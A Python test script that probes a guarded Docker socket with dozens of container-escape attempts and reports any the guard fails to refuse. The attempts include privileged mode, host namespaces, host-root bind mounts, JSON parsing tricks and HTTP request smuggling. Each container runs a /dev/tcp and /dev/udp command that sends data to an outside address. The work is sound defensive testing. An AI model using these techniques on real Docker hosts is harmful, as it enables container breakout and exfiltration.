"""Ways out by way of Docker's guarded socket, as somebody tries them who can only speak to it. What is made is started, so that the outside host's record
says what left. Prints LEAK for what Docker took that must not be, and at the end how many ways were tried.

Usage: docker_escapes.py ADDRESS [IMAGE], an address that nothing may be sent to, and an image with bash in it."""
import http.client, io, json, os, socket, sys, tarfile

ADDRESS, IMAGE = sys.argv[1], sys.argv[2] if sys.argv[2:] else "client"
SOCKET = "/var/run/docker.sock"
SEND = ["bash", "-c", "for p in 9 53 443; do echo exfil > /dev/udp/%s/$p; timeout 1 bash -c \"echo exfil > /dev/tcp/%s/$p\"; done; true" % (ADDRESS, ADDRESS)]
tried = 0


class Connection(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(20)
        self.sock.connect(SOCKET)


def ask(method, path, body=None, **headers):
    """Status and text of an answer; the body is JSON, or bytes as they are."""
    connection = Connection("docker")
    if body is not None and not isinstance(body, bytes):
        body = json.dumps(body).encode()
    connection.request(method, path, body, {"Content-Type": "application/json"} | {name.replace("_", "-"): value for name, value in headers.items()})
    answer = connection.getresponse()
    text = answer.read().decode("utf-8", "replace")
    connection.close()
    return answer.status, text


def raw(data):
    """What comes back for bytes that a client of HTTP would not send."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(5)
        s.connect(SOCKET)
        s.sendall(data)
        answer = b""
        try:
            while part := s.recv(65536):
                answer += part
        except OSError:
            pass
        return answer


def refused(what, status, text):
    global tried
    tried += 1
    # 400 is the guard's, too: a request that has two readings.
    if status not in (400, 403) or "docker.guard" not in text and "cannot be passed on" not in text:
        print("LEAK %s: %d %s" % (what, status, text[:300]), flush=True)
        return False
    return True


def container(what, body, path="/containers/create"):
    """Has a container made as the body says, a dictionary or a text, and runs it where that succeeds."""
    if isinstance(body, dict):
        body = {"Image": IMAGE, "Cmd": SEND} | body
    status, text = ask("POST", path, body.encode() if isinstance(body, str) else body)
    if not refused(what, status, text) and status == 201:
        made = json.loads(text)["Id"]
        ask("POST", "/containers/%s/start" % made)
        ask("POST", "/containers/%s/wait" % made)
        ask("DELETE", "/containers/%s?force=1" % made)


def host(**configuration):
    return {"HostConfig": configuration}


def spelled(text):
    """A description in the words of the test, not in those of a library that writes JSON."""
    return '{"Image":"%s","Cmd":%s,%s}' % (IMAGE, json.dumps(SEND), text)


number = next(n["Id"] for n in json.loads(ask("GET", "/networks")[1]) if n["Name"] == "host")

# The namespaces of this container.
for mode in ("host", "HOST", " host", number, number[:12], number[:3]):
    container("network " + mode, host(NetworkMode=mode))
    container("endpoint " + mode, {"NetworkingConfig": {"EndpointsConfig": {mode: {}}}})
    container("endpoint's number " + mode, {"NetworkingConfig": {"EndpointsConfig": {"bridge": {"NetworkID": mode}}}})
for mode in ("PidMode", "IpcMode", "UTSMode", "UsernsMode", "CgroupnsMode"):
    container(mode, host(**{mode: "host"}))

# Rights.
container("privileged", host(Privileged=True))
for name in ("NET_ADMIN", "cap_net_admin", "CAP_SYS_ADMIN", "SYS_PTRACE", "ALL", "all", "SYS_MODULE", "BPF", "DAC_READ_SEARCH"):
    container("capability " + name, host(CapAdd=[name]))
for option in ("seccomp=unconfined", "apparmor=unconfined", "systempaths=unconfined", "label=disable", 'seccomp={"defaultAction":"SCMP_ACT_ALLOW"}'):
    container("security option " + option, host(SecurityOpt=[option]))
container("devices", host(Devices=[{"PathOnHost": "/dev/net/tun", "PathInContainer": "/dev/net/tun", "CgroupPermissions": "rwm"}]))
container("device rules", host(DeviceCgroupRules=["a *:* rwm"]))
container("unmasked", host(MaskedPaths=[], ReadonlyPaths=[]))
container("cgroup parent", host(CgroupParent="/"))
container("runtime", host(Runtime="io.containerd.runc.v2"))
container("sysctl", host(Sysctls={"kernel.core_pattern": "|/x"}))
container("log driver", host(LogConfig={"Type": "syslog", "Config": {"syslog-address": "udp://%s:514" % ADDRESS}}))

# The daemon's own socket, and what it can be reached by.
for source in ("/run/discobot/docker/docker.sock", "/run/discobot/docker", "/run", "/var/run/docker.sock", "/", "/proc", "/proc/1/root", "/sys", "/dev", "/etc", "/.data", "/home/discobot/../../run", "/home/discobot/./../../", "/tmp//../run"):
    container("bind of " + source, host(Binds=[source + ":/h"]))
    container("mount of " + source, host(Mounts=[{"Type": "bind", "Source": source, "Target": "/h"}]))
    container("volume of " + source, host(Mounts=[{"Type": "volume", "Target": "/h", "VolumeOptions": {"DriverConfig": {"Name": "local", "Options": {"type": "none", "o": "bind", "device": source}}}}]))
refused("volume", *ask("POST", "/volumes/create", {"Name": "v", "DriverOpts": {"type": "none", "o": "bind", "device": "/run"}}))
refused("volume of a network", *ask("POST", "/volumes/create", {"Name": "v", "DriverOpts": {"type": "nfs", "o": "addr=" + ADDRESS, "device": ":/x"}}))
for path in ("/run/discobot/docker/docker.sock", "/run/containerd/containerd.sock", "/run/docker/containerd/containerd.sock", "/var/run/docker/containerd/containerd.sock"):
    tried += 1
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(path)
        print("LEAK " + path, flush=True)
    except OSError:
        pass

# Words that one reader of JSON takes for others than another does.
for text in ('"hostconfig":{"privileged":true}', '"HOSTCONFIG":{"NETWORKMODE":"host"}', '"HostConfig":{"Privileged":false,"privileged":true}', '"HostConfig":{"Privileged":true,"Privileged":false}',
             '"HostConfig":{"NetworkMode":"bridge","networkMode":"host"}', '"HostConfig":{"NetworkMode":"bridge"},"hostConfig":{"NetworkMode":"host"}', '"HostConfig":{"\\u004eetworkMode":"host"}',
             '"HostConfig":{"Networ\\u212aMode":"host"}', '"HostConfig":{"Networ\u212aMode":"host"}', '"HostConfig":{"Bind\u017f":["/:/h"]}', '"HostConfig":{"Privileged":true,}', '"Privileged":true', '"NetworkMode":"host"',
             '"HostConfig":{"SomethingOfLater":"host"}', '"HostConfig":[{"Privileged":true}]', '"HostConfig":{"Privileged":"true"}', '"HostConfig":{"Privileged":1}'):
    container(text, spelled(text))
container("two bodies", spelled('"HostConfig":{}') + spelled('"HostConfig":{"Privileged":true}'))
for path in ("/v1.18/containers/create", "/containers/%63reate", "/containers//create", "//containers/create", "/containers/./create", "/images/../containers/create", "/images/%2e%2e/containers/create", "/containers/create/", "/containers/create%3fx"):
    container("privileged by " + path, host(Privileged=True), path)

# More than one request, and bodies with more than one end.
body = json.dumps({"Image": IMAGE, "Cmd": SEND} | host(Privileged=True)).encode()
create = b"POST /containers/create?name=smuggled HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
for what, data in (("pipelined", b"GET /_ping HTTP/1.1\r\nHost: d\r\n\r\n" + create),
                   ("after an upgrade that fails", b"POST /containers/none/attach HTTP/1.1\r\nHost: d\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n" + create),
                   ("two lengths", create.replace(b"Content-Length", b"Content-Length: 2\r\nContent-Length", 1)),
                   ("chunks and a length", create.replace(b"Content-Length", b"Transfer-Encoding: chunked\r\nContent-Length", 1)),
                   ("lines that end with LF", create.replace(b"\r\n", b"\n")),
                   ("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + create),
                   ("a field that goes on", create.replace(b"Host: d", b"Host: d\r\nX: a\r\n Content-Length: 0", 1)),
                   ("behind a body", b"POST /containers/none/start HTTP/1.1\r\nHost: d\r\nContent-Length: 2\r\n\r\n{}" + create)):
    tried += 1
    raw(data)
    if ask("GET", "/containers/smuggled/json")[0] != 404:
        print("LEAK " + what, flush=True)
        ask("DELETE", "/containers/smuggled?force=1")

# Builds.
context = io.BytesIO()
with tarfile.open(fileobj=context, mode="w") as tar:
    file = ("FROM %s\nRUN %s\n" % (IMAGE, json.dumps(SEND))).encode()
    entry = tarfile.TarInfo("Dockerfile")
    entry.size = len(file)
    tar.addfile(entry, io.BytesIO(file))
for query in ("networkmode=host", "networkmode=HOST", "networkmode=%68ost", "networkmode=default&networkmode=host", "networkmode=" + number, "networkmode=" + number[:8], "version=2&networkmode=host", "cgroupparent=/", "securityopt=[%22seccomp=unconfined%22]"):
    refused("build " + query, *ask("POST", "/build?nocache=1&" + query, context.getvalue(), Content_Type="application/x-tar"))
refused("build as a form", *ask("POST", "/build", b"networkmode=host", Content_Type="application/x-www-form-urlencoded"))

# What does not end at a bridge, and what brings programs of others.
for driver in ("macvlan", "ipvlan", "MACVLAN", "overlay", "host", "null", "vieux/other"):
    refused("network driver " + driver, *ask("POST", "/networks/create", {"Name": "n", "Driver": driver, "Options": {"parent": "eth0"}, "IPAM": {"Config": []}}))
refused("network of two drivers", *ask("POST", "/networks/create", b'{"Name":"n","Driver":"bridge","driver":"macvlan","Options":{"parent":"eth0"}}'))
for method, path, body in (("POST", "/plugins/pull?remote=vieux/sshfs", []), ("POST", "/plugins/create?name=x", b""), ("POST", "/plugins/x/enable", None), ("POST", "/swarm/init", {"ListenAddr": "0.0.0.0:2377"}),
                           ("POST", "/swarm/join", {"RemoteAddrs": [ADDRESS + ":2377"]}), ("POST", "/services/create", {}), ("POST", "/secrets/create", {}), ("POST", "/containers/x/checkpoints", {}), ("GET", "/debug/pprof/", None)):
    refused(method + " " + path, *ask(method, path, body))

# A container that is there already.
status, text = ask("POST", "/containers/create?name=held", {"Image": IMAGE, "Cmd": ["sleep", "1000"]})
if status == 201 and ask("POST", "/containers/held/start")[0] == 204:
    for body in (b'{"Cmd":["true"],"Privileged":true}', b'{"Cmd":["true"],"privileged":true}', b'{"Cmd":["true"],"Privileged":true,"Privileged":false}', b'{"Cmd":["true"],"CapAdd":["ALL"]}'):
        refused("exec %s" % body, *ask("POST", "/containers/held/exec", body))
    refused("update", *ask("POST", "/containers/held/update", {"Devices": [{"PathOnHost": "/dev/mem"}]}))
    refused("start anew", *ask("POST", "/containers/held/start", {"Privileged": True}))
    for name in ("host", number, number[:6]):
        refused("connected to " + name, *ask("POST", "/networks/%s/connect" % name, {"Container": "held"}))
        refused("connected to bridge as " + name, *ask("POST", "/networks/none-such/connect", {"Container": "held", "EndpointConfig": {"NetworkID": name}}))
    # That the rest works, and sends nothing.
    status, text = ask("POST", "/containers/held/exec", {"Cmd": SEND})
    started = ask("POST", "/exec/%s/start" % json.loads(text)["Id"], {"Detach": False, "Tty": False})[0]
    if (status, started) != (201, 200):
        print("BROKEN exec: %d %d" % (status, started), flush=True)
else:
    print("BROKEN container: %d %s" % (status, text), flush=True)
ask("DELETE", "/containers/held?force=1")
print("tried %d ways" % tried, flush=True)
